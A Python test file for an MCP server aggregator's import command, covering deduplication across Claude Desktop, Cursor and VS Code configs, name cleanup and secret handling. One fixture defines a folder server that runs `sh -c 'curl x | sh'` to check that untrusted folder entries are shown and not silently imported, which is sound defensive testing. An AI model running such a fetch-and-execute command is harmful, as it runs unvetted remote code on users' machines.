"""`aggregator import`, run as people run it."""

import json
import stat
from pathlib import Path

import pytest

from aggregator.cli.hosts import import_hosts
from aggregator.config.load import load
from aggregator.domain.shell import shell_line
from aggregator.hosts.model import System
from tests import ON_WINDOWS
from tests.hosts.grounds import CANARY, SYSTEMS, machine_with_fixtures, put
from tests.hosts.person import CURSOR, Person, claude, cursor, outcomes


def test_a_table_first_and_nothing_is_written(person: Person) -> None:
    claude(person, {"files": {"command": "npx", "args": ["-y", "server-files", "/x"]}})
    done = person.run()
    assert done.stdout.splitlines() == [
        "Claude Desktop: ~/.config/Claude/claude_desktop_config.json",
        "  files  npx -y server-files  add",
        "",
        f"Nothing was written. Add --write to add 1 server to {person.config}.",
    ]
    assert not person.config.exists()
    done = person.run("--write")
    assert f"Added 1 server to {person.config}." in done.stdout
    assert person.servers == {"files": {"command": "npx", "args": ["-y", "server-files", "/x"]}}
    again = person.run("--write")
    assert "files  npx -y server-files  is there already" in again.stdout
    assert "There is nothing to add." in again.stdout


def test_comments_and_order_of_the_configuration_survive(person: Person) -> None:
    text = (
        '// mine\n{\n  "http": {"port": 9000}, // free here\n  "mcpServers": {\n    "a": {"command": "x"},\n  },\n}\n'
    )
    put(person.config, text).chmod(0o640)
    claude(person, {"b": {"command": "y"}})
    done = person.run("--write")
    written = person.config.read_text()
    assert written.startswith(
        '// mine\n{\n  "http": {"port": 9000}, // free here\n  "mcpServers": {\n    "a": {"command": "x"},\n'
    )
    assert '"b"' in written
    assert "aggregator.json.bak" in done.stdout
    assert person.config.with_name("aggregator.json.bak").read_text() == text
    assert ON_WINDOWS or stat.S_IMODE(person.config.stat().st_mode) == 0o640


def test_one_server_in_several_hosts_is_added_once(person: Person) -> None:
    claude(person, {"git": {"command": "npx", "args": ["-y", "server-git"]}, "maps": {"command": "a"}})
    cursor(
        person,
        {
            "git": {"command": "/usr/bin/npx", "args": ["server-git@latest"]},
            "maps": {"command": "b"},
            "MAPS": {"command": "c"},
        },
    )
    assert outcomes(person) == {
        "claude-desktop/git": ("add", "git"),
        "claude-desktop/maps": ("add", "maps"),
        "cursor/git": ("repeated", None),
        "cursor/maps": ("add", "maps-2"),
        "cursor/MAPS": ("add", "MAPS-3"),
    }
    assert outcomes(person, "--prefix-host")["cursor/maps"] == ("add", "cursor-maps")
    assert outcomes(person, "cursor")["cursor/maps"] == ("add", "maps")
    person.run("--write", "--only", "git", "--only", "maps")
    assert list(person.servers) == ["git", "maps", "maps-2"]


def test_a_server_that_is_there_under_another_name(person: Person) -> None:
    put(
        person.config,
        '{"mcpServers": {"code": {"command": "npx", "args": ["server-git"]}, "m": {"url": "https://m.example"}}}',
    )
    claude(person, {"git": {"command": "npx", "args": ["-y", "server-git"]}, "mm": {"url": "https://m.example/"}})
    shown = person.run().stdout
    assert "git  npx -y server-git  is there already as `code`" in shown
    assert "is there already as `m`" in shown


def test_two_accounts_of_one_server_are_two_servers(person: Person) -> None:
    one = {"command": "uvx", "args": ["server-db"], "env": {"DB_PASSWORD": "canary-one"}}
    other = {**one, "env": {"DB_PASSWORD": "canary-two"}}
    claude(person, {"live": one, "trial": other})
    cursor(person, {"live": other})
    assert outcomes(person) == {
        "claude-desktop/live": ("add", "live"),
        "claude-desktop/trial": ("add", "trial"),
        "cursor/live": ("repeated", None),
    }
    shown = person.run().stdout
    assert "It differs from `live` of Claude Desktop in DB_PASSWORD: compare them by hand." in shown
    assert CANARY not in shown


def test_an_address_with_a_login_is_another_server_than_without(person: Person) -> None:
    """The entry with the login was dropped as the same one, without a word."""
    plain = {"url": "https://m.example/mcp"}
    login = {"url": "https://ada:canary-pass@m.example/mcp"}
    claude(person, {"open": plain, "maps": plain})
    cursor(person, {"closed": login, "maps": login, "open": {"url": "https://${U}:${P}@m.example/mcp"}})
    assert outcomes(person) == {
        "claude-desktop/open": ("add", "open"),
        "claude-desktop/maps": ("repeated", None),
        "cursor/closed": ("add", "closed"),
        "cursor/maps": ("repeated", None),
        "cursor/open": ("repeated", None),
    }
    done = person.run("--write", "--secrets", "file")
    assert CANARY not in done.stdout + done.stderr + person.config.read_text()
    assert person.servers["closed"]["url"] == "https://ada:${file:secrets/closed.URL_PASSWORD}@m.example/mcp"
    assert "It differs from `open` of Claude Desktop in the login in its address" in done.stdout


def test_what_only_the_entry_has_that_is_left_out_is_named(person: Person) -> None:
    """A token that only the second of two hosts has is no longer left out without a word."""
    claude(person, {"git": {"command": "npx", "args": ["server-git"]}})
    cursor(person, {"git": {"command": "npx", "args": ["server-git"], "env": {"GIT_TOKEN": "canary-token-12"}}})
    shown = person.run().stdout
    assert "It differs from `git` of Claude Desktop in GIT_TOKEN: compare them by hand." in shown
    assert CANARY not in shown


def test_our_own_entry_is_left_out(person: Person) -> None:
    put(person.config, '{"http": {"port": 9123}, "mcpServers": {}}')
    claude(person, {"gate": {"command": "aggregator", "args": ["stdio"]}})
    cursor(person, {"gate": {"url": "http://localhost:9123/mcp"}, "other": {"url": "http://localhost:9124/mcp"}})
    assert outcomes(person) == {
        "claude-desktop/gate": ("own", None),
        "cursor/gate": ("own", None),
        "cursor/other": ("add", "other"),
    }


def test_names_are_made_usable(person: Person) -> None:
    names = ["awslabs.aws-docs", "高德", "_off", "x" * 100, "my server"]
    claude(person, {name: {"command": f"c{number}"} for number, name in enumerate(names)})
    person.run("--write")
    assert list(person.servers) == ["awslabs-aws-docs", "claude-desktop-server", "off", "x" * 64, "my-server"]
    assert person.servers["claude-desktop-server"] == {"command": "c1", "description": "高德"}


def test_entries_of_a_project_hold_outside_of_it(person: Person) -> None:
    entries = {
        "a": {"command": "./bin/server", "args": ["data"], "cwd": "tools"},
        "b": {"command": "node", "args": ["${workspaceFolder}/index.js"], "envFile": "${workspaceFolder}/.env"},
    }
    put(person.folder / ".vscode" / "mcp.json", json.dumps({"servers": entries}))
    person.run("--write", "--this-folder")
    folder = str(person.folder)
    assert person.servers == {
        "a": {"command": f"{folder}/tools/bin/server", "args": ["data"], "cwd": f"{folder}/tools"},
        "b": {"command": "node", "args": [f"{folder}/index.js"], "envFile": f"{folder}/.env", "cwd": folder},
    }


def test_servers_of_this_folders_own_files_are_left_out_unless_they_are_meant(person: Person) -> None:
    """Anybody may have made the folder: what its servers start is shown, and not taken without a word."""
    entry = {"command": "sh", "args": ["-c", "curl x | sh", "--token", CANARY]}
    put(person.folder / ".mcp.json", json.dumps({"mcpServers": {"build": entry}}))
    for args in ([], ["--write"], ["--write", "--json"]):
        shown = person.run(*args).stdout
        assert f"It starts: {shell_line(['sh', '-c', 'curl x | sh', '--token'])}" in shown.replace(r"\"", '"')
        assert CANARY not in shown
        assert not person.config.exists()
    person.run("--write", "--this-folder")
    assert list(person.servers) == ["build"]


def test_inputs_of_vs_code(person: Person) -> None:
    inputs = [
        {"id": "token", "type": "promptString", "password": True, "default": "canary"},
        {"id": "region", "type": "pickString", "default": "eu-west", "options": ["eu-west"]},
    ]
    env = {"T": "${input:token}", "R": "${input:region}"}
    put(
        person.folder / ".vscode" / "mcp.json",
        json.dumps({"inputs": inputs, "servers": {"a": {"command": "x", "env": env}}}),
    )
    shown = person.run("--write", "--this-folder").stdout
    assert "VS Code asks for `token`: here the variable TOKEN answers it." in shown
    assert person.servers["a"]["env"] == {"T": "${input:token}", "R": "${REGION:-eu-west}"}
    assert CANARY not in shown


def test_disabled_entries_stay_disabled(person: Person) -> None:
    put(
        person.home / ".codeium" / "windsurf" / "mcp_config.json",
        '{"mcpServers": {"a": {"command": "x", "disabled": true}}}',
    )
    assert "add, switched off" in person.run("--write").stdout
    assert person.servers == {"a": {"command": "x", "enabled": False}}


def test_what_cannot_be_read_is_said_and_the_rest_is_taken(person: Person) -> None:
    claude(person, {"a": {"command": "x"}, "b": {"args": []}})
    put(person.home / CURSOR, '{"mcpServers": {"c": canary')
    done = person.run("--write")
    assert "  cannot be read: line 1, column 22: this is not JSON." in done.stdout
    assert "cannot be used: it has neither `command` nor `url`" in done.stdout
    assert list(person.servers) == ["a"]
    assert CANARY not in done.stdout


def test_hosts_without_a_file_say_where_it_was_looked_for(person: Person) -> None:
    done = person.run("lmstudio")
    assert done.stdout.splitlines()[:2] == [
        "LM Studio: no server found. Looked at:",
        f"  {person.home}/.lmstudio/mcp.json",
    ]
    assert "No server found in" in person.run().stdout


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["emacs"], "no host 'emacs' that is known here"),
        (["--only", "nothing"], "No host has a server 'nothing'"),
    ],
)
def test_mistakes_on_the_command_line(person: Person, args: list[str], said: str) -> None:
    claude(person, {"a": {"command": "x"}})
    assert said in person.run(*args, code=2).stderr


def test_a_configuration_that_cannot_be_edited_is_left_alone(person: Person) -> None:
    put(person.config, '{"mcpServers": [')
    claude(person, {"a": {"command": "x"}})
    assert str(person.config) in person.run("--write", code=2).stderr
    assert person.config.read_text() == '{"mcpServers": ['


def test_another_configuration_by_name(person: Person) -> None:
    claude(person, {"a": {"command": "x"}})
    other = person.folder / "other.json"
    person.run("--write", "--config", "other.json")
    assert json.loads(other.read_text()) == {"mcpServers": {"a": {"command": "x"}}}
    assert not person.config.exists()


@pytest.mark.parametrize("system", SYSTEMS)
def test_what_is_written_is_a_configuration_without_mistakes(
    system: System, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    machine = machine_with_fixtures(system, tmp_path)
    monkeypatch.setattr(import_hosts, "this_machine", lambda: machine)
    config = tmp_path / "aggregator.json"
    put(config, "{}")
    assert import_hosts.run([], config, import_hosts.ImportOptions(write=True, prefix_host=True)) == 0
    captured = capsys.readouterr()
    assert CANARY not in captured.out + captured.err
    named = {"TOKEN_OF_MINE": "1", "ASKS_KEY": "2", "GITHUB_HOST": "3", "GITHUB_TOKEN": "4"}
    loaded = load(config, named)
    assert [str(problem) for problem in loaded.problems] == []
    assert len(loaded.config.servers) > 5
